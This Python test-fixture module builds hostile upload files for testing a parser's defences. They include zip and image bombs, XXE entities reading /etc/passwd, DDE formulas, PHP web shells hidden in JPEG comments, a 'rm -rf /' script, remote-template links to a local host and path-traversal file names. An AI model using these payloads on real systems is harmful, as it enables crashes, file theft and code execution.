"""Files made to break a reader: each kind is generated here, by its name; nothing comes from outside."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import openpyxl
from PIL import Image

HEADS = ("姓名", "证件号码", "单位")
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
DTD = '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n + 1} '{f'&a{n};' * 10}'>" for n in range(9)) + "]>"


def workbook(rows: list[list[Any]] | None = None, change: Callable[[Any], None] | None = None) -> bytes:
    """A plain workbook, changed."""
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows or [list(HEADS), ["张三", "x", "甲"]]:
        sheet.append(row)
    if change is not None:
        change(sheet)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def repacked(data: bytes, *, replace: dict[str, Any] | None = None, add: dict[str, Any] | None = None,
             drop: tuple[str, ...] = ()) -> bytes:  # fmt: skip
    """The same archive with parts replaced (bytes, or a function of the old text), added, dropped."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name in drop:
                continue
            body: Any = old.read(name)
            change = (replace or {}).get(name)
            if callable(change):
                body = change(body.decode()).encode()
            elif change is not None:
                body = change
            new.writestr(name, body)
        for name, body in (add or {}).items():
            new.writestr(name, body)
    return out.getvalue()


SHEET = "xl/worksheets/sheet1.xml"


def _sheet(change: Callable[[str], str]) -> bytes:
    return repacked(workbook(), replace={SHEET: change})


def _with_dtd(dtd: str, entity: str) -> Callable[[str], str]:
    def change(text: str) -> str:
        body = text[text.index("<worksheet") :]
        return dtd.replace("<!DOCTYPE x", "<!DOCTYPE worksheet") + body.replace(
            "</sheetData>", f"<row r='9'><c r='A9' t='inlineStr'><is><t>{entity}</t></is></c></row></sheetData>"
        )

    return change


def _zip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    return out.getvalue()


def _link(name: str, target: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo(name)
        info.create_system, info.external_attr = 3, 0o120777 << 16
        archive.writestr(info, target)
    return out.getvalue()


def _nested(depth: int = 6) -> bytes:
    body = b"0" * 5_000_000
    for level in range(depth):
        body = _zip({f"{level}-{n}.zip": body for n in range(4)}) if level else _zip({"a.xlsx": body})
    return body


def _lying_sizes(data: bytes) -> bytes:
    """The central directory says that everything is 1 byte long."""
    made = bytearray(data)
    at = 0
    while (at := made.find(b"PK\x01\x02", at)) >= 0:
        made[at + 24 : at + 28] = struct.pack("<I", 1)
        at += 4
    return bytes(made)


def _encrypted(data: bytes) -> bytes:
    made = bytearray(data)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = 0
        while (at := made.find(mark, at)) >= 0:
            made[at + place] |= 1
            at += 4
    return bytes(made)


def _ole(kind: str) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + kind.encode("utf-16-le") + random.Random(1).randbytes(3000)


def _many_styles(text: str) -> str:
    return text.replace("</styleSheet>", "<extLst>" + "<ext/>" * 300_000 + "</extLst></styleSheet>")


BOMB = repacked(workbook(), add={"xl/media/zeros.bin": b"\0" * (700 << 20)})
WORKBOOKS: dict[str, tuple[str, bytes]] = {
    "zip bomb: a part of 700 MB": ("炸弹.xlsx", BOMB),
    "zip bomb: sheet of spaces": (
        "空格.xlsx",
        _sheet(lambda t: t.replace("</worksheet>", " " * (250 << 20) + "</worksheet>")),
    ),
    "sizes that lie": ("说谎.xlsx", _lying_sizes(workbook())),
    "far cell": ("远格.xlsx", workbook(change=lambda s: s.cell(1_048_576, 16_384, "远"))),
    "far cell beyond the sheet": ("越界.xlsx", _sheet(lambda t: t.replace('r="A2"', 'r="ZZZZ99999999"'))),
    "dimension that lies": ("范围.xlsx", _sheet(lambda t: t.replace('ref="A1:C2"', 'ref="A1:XFD1048576"'))),
    "cell without address": ("无址.xlsx", _sheet(lambda t: t.replace(' r="A2"', ' r=""'))),
    "negative row": ("负行.xlsx", _sheet(lambda t: t.replace('<row r="2"', '<row r="-2"'))),
    "external entity": ("外部实体.xlsx", _sheet(_with_dtd(DTD, "&x;"))),
    "billion laughs": ("十亿.xlsx", _sheet(_with_dtd(LAUGHS, "&a9;"))),
    "parameter entity": (
        "参数实体.xlsx",
        _sheet(_with_dtd('<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x">%p;]>', "")),
    ),
    "deep xml": (
        "深层.xlsx",
        _sheet(lambda t: t.replace("</sheetData>", "<row>" * 100_000 + "</row>" * 100_000 + "</sheetData>")),
    ),
    "xml cut off": ("截断.xlsx", _sheet(lambda t: t[: len(t) // 2])),
    "xml in utf-7": (
        "编码.xlsx",
        _sheet(lambda t: '<?xml version="1.0" encoding="utf-7"?>' + t[t.index("<worksheet") :]),
    ),
    "xml with NUL": ("零字节.xlsx", _sheet(lambda t: t.replace("</sheetData>", "\0</sheetData>"))),
    "shared string out of range": (
        "串号.xlsx",
        _sheet(lambda t: t.replace('t="s"><v>0</v>', 't="s"><v>999999999</v>')),
    ),
    "shared string negative": ("负串号.xlsx", _sheet(lambda t: t.replace('t="s"><v>0</v>', 't="s"><v>-1</v>'))),
    "styles of 300,000 parts": ("样式.xlsx", repacked(workbook(), replace={"xl/styles.xml": _many_styles})),
    "relationship upwards": (
        "上跳.xlsx",
        repacked(
            workbook(),
            replace={
                "xl/_rels/workbook.xml.rels": lambda t: t.replace("worksheets/sheet1.xml", "../../../../etc/passwd")
            },
        ),
    ),
    "relationship to a file": (
        "外链关系.xlsx",
        repacked(
            workbook(),
            replace={
                "xl/_rels/workbook.xml.rels": lambda t: t.replace(
                    'Target="/xl/worksheets/sheet1.xml"', 'Target="file:///etc/passwd" TargetMode="External"'
                )
            },
        ),
    ),
    "external workbook": (
        "外部工作簿.xlsx",
        repacked(
            workbook(),
            add={
                "xl/externalLinks/externalLink1.xml": f"<externalLink {NS}/>",
                "xl/externalLinks/_rels/externalLink1.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="x" Target="http://127.0.0.1:9/a.xlsx" TargetMode="External"/></Relationships>',
            },
        ),
    ),
    "formula to a web address": (
        "网址公式.xlsx",
        workbook([list(HEADS), ['=WEBSERVICE("http://127.0.0.1:9/"&B2)', "x", "甲"]]),
    ),
    "DDE formula": ("DDE.xlsx", workbook([list(HEADS), ["=cmd|' /C calc'!A0", "x", "甲"]])),
    "text that begins like a formula": (
        "加号.xlsx",
        workbook([list(HEADS), ["+1+cmd|' /C calc'!A0", "@SUM(1)", "甲"]]),
    ),
    "macros": ("宏.xlsm", repacked(workbook(), add={"xl/vbaProject.bin": _ole("VBA")})),
    "macros under the name xlsx": ("宏改名.xlsx", repacked(workbook(), add={"xl/vbaProject.bin": _ole("VBA")})),
    "Excel 4 macro sheet": (
        "四代宏.xlsx",
        repacked(
            workbook(),
            add={
                "xl/macrosheets/sheet1.xml": "<xm:macrosheet xmlns:xm='http://schemas.microsoft.com/office/excel/2006/main'/>"
            },
        ),
    ),
    "embedded object": ("嵌入.xlsx", repacked(workbook(), add={"xl/embeddings/oleObject1.bin": _ole("Package")})),
    "encrypted parts": ("加密.xlsx", _encrypted(workbook())),
    "no content types": ("缺件.xlsx", repacked(workbook(), drop=("[Content_Types].xml",))),
    "no sheets": ("无表.xlsx", repacked(workbook(), drop=(SHEET,))),
    "no workbook part": ("无簿.xlsx", repacked(workbook(), drop=("xl/workbook.xml",))),
    "a part twice": ("重复.xlsx", repacked(workbook(), add={SHEET: b"<x/>"})),
    "parts of path names": (
        "路径.xlsx",
        repacked(workbook(), add={"../../../../tmp/evil": b"x", "/etc/evil": b"x", "C:\\evil": b"x"}),
    ),
    "20,000 parts": ("多件.xlsx", repacked(workbook(), add={f"xl/media/{n}.bin": b"" for n in range(20_000)})),
    "archive cut off": ("断包.xlsx", workbook()[:-200]),
    "archive of noise": ("噪声.xlsx", b"PK\x03\x04" + random.Random(2).randbytes(5000)),
    "rubbish before the archive": ("前缀.xlsx", b"MZ" + b"\0" * 500 + workbook()),
    "rubbish behind the archive": ("后缀.xlsx", workbook() + b"<script>alert(1)</script>" * 100),
    "old Excel of noise": ("旧版.xls", _ole("Workbook")),
    "html as xls": ("网页.xls", b"<html><table><tr><td>=cmd|' /C calc'!A0</td></tr></table><script>1</script></html>"),
    "csv with NUL": ("零.csv", b"a,b\n\0,\0\n"),
    "csv of one endless line": ("长行.csv", b"a," * 3_000_000),
    "csv of open quotes": ("引号.csv", b'a,b\n"' + b"x" * 200_000),
    "csv in no encoding": ("乱码.csv", b"\xff\xfe\xfa\x81\x00" * 500),
    "csv of control marks": ("控制.csv", "姓名,单位\n\u202e三张\u2066,\ufeff\u200b甲\n".encode()),
    "wide csv": ("宽表.csv", b",".join(b"c%d" % n for n in range(40_000)) + b"\n"),
    "empty": ("空.xlsx", b""),
    "one byte": ("一.xlsx", b"P"),
    "program under the name xlsx": ("程序.xlsx", b"MZ\x90\0" + random.Random(3).randbytes(4000)),
    "pdf under the name xlsx": (
        "改名.xlsx",
        b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n",
    ),
}
BUNDLES: dict[str, tuple[str, bytes]] = {
    "zip in zip in zip": ("套娃.zip", _nested()),
    "zip of links": ("链接.zip", _link("名单.xlsx", "/etc/passwd")),
    "zip of path names": (
        "路径.zip",
        _zip({"../../名单.xlsx": workbook(), "/etc/名单.csv": b"a\n", "..\\..\\x.csv": b"a\n"}),
    ),
    "zip of 5,000 files": ("很多.zip", _zip({f"{n}.csv": b"a\n" for n in range(5000)})),
    "zip that unpacks to 700 MB": ("大包.zip", _zip({"a.csv": b"a\n" * (350 << 20)})),
    "zip with a password": ("密码.zip", _encrypted(_zip({"a.csv": b"a\n1\n"}))),
    "zip of names with marks": (
        "怪名.zip",
        _zip({"\u202excod.csv": b"a\n1\n", "a\u200b.csv": b"a\n1\n", "con.csv": b"a\n"}),
    ),
}


def picture(size: tuple[int, int] = (40, 30), kind: str = "JPEG", **more: Any) -> bytes:
    """A plain picture."""
    out = io.BytesIO()
    Image.new("RGB", size, "teal").save(out, kind, **more)
    return out.getvalue()


def _png_bomb(side: int = 60_000) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    packed = zlib.compressobj(9)
    rows = b"".join(packed.compress(b"\0" * (side // 8 + 1)) for _ in range(side)) + packed.flush()
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def _png_text(size: int) -> bytes:
    plain = picture(kind="PNG")
    body = b"Comment\0\0" + zlib.compress(b"\0" * size)
    extra = struct.pack(">I", len(body)) + b"zTXt" + body + struct.pack(">I", zlib.crc32(b"zTXt" + body))
    return plain[:33] + extra + plain[33:]


def _exif(size: int) -> bytes:
    plain = picture()
    parts = b"".join(
        b"\xff\xe1" + struct.pack(">H", 65_535) + b"Exif\0\0" + b"\xff" * 65_527 for _ in range(size // 65_535)
    )
    return plain[:2] + parts + plain[2:]


def _animated(kind: str) -> bytes:
    frames = [Image.new("RGB", (50, 50), (n, n, n)) for n in range(60)]
    out = io.BytesIO()
    frames[0].save(out, kind, save_all=True, append_images=frames[1:])
    return out.getvalue()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><image href="http://127.0.0.1:9/x"/></svg>'
REFUSED_PHOTOS: dict[str, tuple[str, bytes]] = {
    "png of 3.6 thousand million pixels": ("像素.png", _png_bomb()),
    "svg as jpg": ("图.jpg", SVG),
    "svg": ("图.svg", SVG),
    "gif as jpg": ("动.jpg", _animated("GIF")),
    "bmp as jpg": ("位图.jpg", picture(kind="BMP")),
    "tiff as jpg": ("扫描.jpg", picture(kind="TIFF")),
    "jpg cut off": ("断.jpg", picture((2000, 2000))[:2000]),
    "jpg of its head alone": ("头.jpg", b"\xff\xd8\xff\xe0"),
    "jpg of noise": ("噪.jpg", b"\xff\xd8\xff" + random.Random(4).randbytes(20_000)),
    "png of wrong sums": ("和.png", picture(kind="PNG")[:40] + b"\0\0\0\0" + picture(kind="PNG")[44:]),
    "webp of noise": ("噪.webp", b"RIFF\x00\x10\x00\x00WEBPVP8 " + random.Random(5).randbytes(4000)),
    "html as png": ("页.png", b"<!doctype html><script>alert(1)</script>"),
    "heic": ("苹果.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 100),
    "postscript as jpg": ("印.jpg", b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file"),
    "mvg as png": ("画.png", b"push graphic-context\nfill 'url(http://127.0.0.1:9/)'\npop graphic-context"),
    "jpg of 65,500 × 65,500 in its head": (
        "大.jpg",
        picture()[:163] + picture()[163:].replace(struct.pack(">HH", 30, 40), struct.pack(">HH", 65_500, 65_500), 1),
    ),
}
CLEANED_PHOTOS: dict[str, tuple[str, bytes]] = {
    "jpg and archive in one": ("双.jpg", picture() + workbook()),
    "jpg and page in one": ("页.jpg", picture() + b"<script>alert(1)</script><?php system('id'); ?>"),
    "jpg with a program in its comment": ("注.jpg", picture(comment=b"<?php system($_GET[0]); ?>" * 50)),
    "exif of 2 MB": ("注记.jpg", _exif(2_000_000)),
    "png with 100 MB of text": ("文字.png", _png_text(100 << 20)),
    "animated png": ("动.png", _animated("PNG")),
    "animated webp": ("动.webp", _animated("WEBP")),
    "png under the name jpg": ("换名.jpg", picture(kind="PNG")),
    "jpg under the name pdf.exe.jpg": ("通知.pdf.exe.jpg", picture()),
}
CT = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
DOCX = _zip({"[Content_Types].xml": CT.encode(), "word/document.xml": b"<w:document xmlns:w='x'/>"})
_RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>'
DOCUMENTS: dict[str, tuple[str, bytes]] = {
    "docx with macros": ("宏.docx", repacked(DOCX, add={"word/vbaProject.bin": _ole("VBA")})),
    "docm": ("宏.docm", repacked(DOCX, add={"word/vbaProject.bin": _ole("VBA")})),
    "docx with a remote template": ("远程.docx", repacked(DOCX, add={"word/_rels/settings.xml.rels": _RELS})),
    "docx with a remote frame": (
        "框.docx",
        repacked(DOCX, add={"word/_rels/document.xml.rels": _RELS.replace("attachedTemplate", "frame")}),
    ),
    "docx with an embedded program": (
        "嵌入.docx",
        repacked(DOCX, add={"word/embeddings/oleObject1.bin": _ole("Package")}),
    ),
    "docx with DDE": (
        "DDE.docx",
        repacked(
            DOCX,
            replace={
                "word/document.xml": b"<w:document xmlns:w='x'><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"</w:instrText></w:document>"
            },
        ),
    ),
    "docx of 700 MB": ("炸弹.docx", repacked(DOCX, add={"word/media/a.bin": b"\0" * (700 << 20)})),
    "html as docx": ("页.docx", b"<html><script>alert(1)</script></html>"),
    "html as pdf": ("页.pdf", b"<html><script>alert(1)</script></html>"),
    "html": ("页.html", b"<!doctype html><script>alert(1)</script>"),
    "mht as doc": ("页.doc", b"MIME-Version: 1.0\nContent-Type: text/html\n\n<script>1</script>"),
    "rtf as doc": ("富.doc", b"{\\rtf1{\\object\\objocx{\\*\\objdata 0105}}}"),
    "old Word of noise": ("旧.doc", _ole("WordDocument")),
    "program as pdf": ("程.pdf", b"MZ\x90\0" + random.Random(6).randbytes(3000)),
    "shortcut": ("快捷.lnk", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 200),
    "script as pdf": ("脚本.pdf", b"#!/bin/sh\nrm -rf /\n"),
    "pdf with a script": (
        "动作.pdf",
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF",
    ),
    "pdf that starts a program": (
        "启动.pdf",
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>>>endobj\n%%EOF",
    ),
    "pdf with an embedded file": (
        "附带.pdf",
        b"%PDF-1.7\n1 0 obj<</Type/Filespec/EF<</F 2 0 R>>/F(a.exe)>>endobj\n2 0 obj<</Type/EmbeddedFile>>stream\nMZ\nendstream endobj\n%%EOF",
    ),
}
NAMES = [
    "../../../../etc/passwd", "..\\..\\windows\\system32\\a.jpg", "/etc/cron.d/a.jpg", "C:\\a.jpg", "a\0.jpg", "\u202egpj.exe",
    "a\u200b\u200d.jpg", "con.jpg", "a" * 5000 + ".jpg", ".jpg", "", " . ", "a\r\nSet-Cookie: x=1.jpg", 'a"; filename="b.html',
    "<img src=x onerror=alert(1)>.jpg", "=cmd|' /C calc'!A0.jpg", "\ud83d\ude00.jpg".encode("utf-16", "surrogatepass").decode("utf-16"),
    "a.jpg/../../b.php", "..", "~/.ssh/authorized_keys", "%2e%2e%2fa.jpg", "𝒂.jpg", "e\u0301\u0301\u0301.jpg",
]  # fmt: skip


def all_kinds() -> int:
    """How many kinds there are."""
    return sum(map(len, (WORKBOOKS, BUNDLES, REFUSED_PHOTOS, CLEANED_PHOTOS, DOCUMENTS, NAMES)))
